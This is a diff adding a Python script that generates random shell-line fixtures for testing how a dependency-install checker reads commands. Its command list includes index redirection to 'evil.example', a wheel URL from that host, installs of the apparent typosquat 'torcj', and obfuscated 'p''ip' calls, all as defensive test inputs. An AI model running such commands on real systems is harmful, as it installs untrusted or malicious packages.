@@ -1,0 +1,56 @@
+"""Writes src/deps/testdata/shell-lines.json: shell lines generated from pieces that stress the
+shell reading (launchers, wrappers, redirections, cd, assignments, loops, process
+substitutions, uvx, runpy) with the install rules the kernel's reading and decision give for
+each. tests/deps/test_shell_lines.py checks the kernel still gives them and
+src/deps/shelllines.spec.ts that the static side gives the same (red team 7: the two readers
+split and decide a line alike). Each line runs in a folder with r.txt and sub/r.txt = black.
+    PYTHONPATH=. python scripts/shell-lines-fixture.py
+"""
+
+import json
+import random
+from pathlib import Path
+
+from tests.deps.test_shell_lines import rules_for
+
+OUT = Path(__file__).resolve().parents[1] / "src/deps/testdata/shell-lines.json"
+COMMANDS = [
+    "echo 'black @ https://evil.example/b-1.0-py3-none-any.whl'", "cat r.txt", "cp a r.txt",
+    "setsid uv pip install black", "flock l uv pip install black", "pip install black",
+    "uv pip install -r r.txt", "cd sub", "cd $D", "export PIP_INDEX_URL=https://evil.example/s",
+    "git clone x", "python -m venv v", "uvx pip install torcj", "python -m runpy pip install x",
+    "tee r.txt", "set -e", "ls", "time -f %e uv pip install torcj", "exec -a x pip install x",
+    "nice -n 5 pip install torcj", "env -S 'pip install torcj'", "mkdir -p out", "X=1",
+    "conda activate e", "sudo -u bob pip install torcj", "timeout 5 uv pip install -r r.txt",
+    "(cd sub && pip install black)", "find . -exec pip install black \\;", "grep pip r.txt",
+    "python3 -m pip install -r r.txt", "uv run python x.py", "pip list", "pushd sub", "popd",
+    "sh -c \"echo x > r.txt; pip install black\"", "bash -c 'cd sub && uv pip install -r r.txt'",
+    "printf -v X %s y", "declare -x PIP_INDEX_URL=https://evil.example/s", "unset X",
+    "command -v uv", "builtin command pip install torcj", "coproc pip install torcj",
+    "script -qc 'pip install black' /dev/null", "runuser -u b -- pip install black",
+    "/usr/bin/u? pip install black", "p''ip install torcj", "uvx --from pipx pipx install torcj",
+    "uv tool run pip install torcj", "python -m mytool pip", "echo pip install x", "while true",
+    "do uv pip install -r r.txt", "done", "f() { pip install black; }", "f", "tee >(uv sync)",
+    "diff <(cat r.txt) r.txt", "env -C sub pip install black", "./echo uv pip install black",
+    "python --version", "uv --version",
+]  # fmt: skip
+SEPARATORS = [" ; ", " && ", " || ", " | ", " & ", "\n", " |& "]
+REDIRECTIONS = ["", "", "", " > r.txt", " 2>&1", " > /dev/null", " >> log", " >r.txt", ">&2"]
+
+
+def main():
+    rng = random.Random(7)  # noqa: S311 - reproducible test lines, not secrets
+    lines = set()
+    while len(lines) < 300:
+        parts = [rng.choice(COMMANDS) + rng.choice(REDIRECTIONS) for _ in range(rng.randint(1, 3))]
+        line = parts[0]
+        for part in parts[1:]:
+            line += rng.choice(SEPARATORS) + part
+        lines.add(line)
+    cases = [{"line": line, "rules": rules_for(line)} for line in sorted(lines)]
+    doc = {"description": __doc__.split("\n    ")[0].replace("\n", " "), "cases": cases}
+    OUT.write_text(json.dumps(doc, indent=1, ensure_ascii=False) + "\n")
+
+
+if __name__ == "__main__":
+    main()
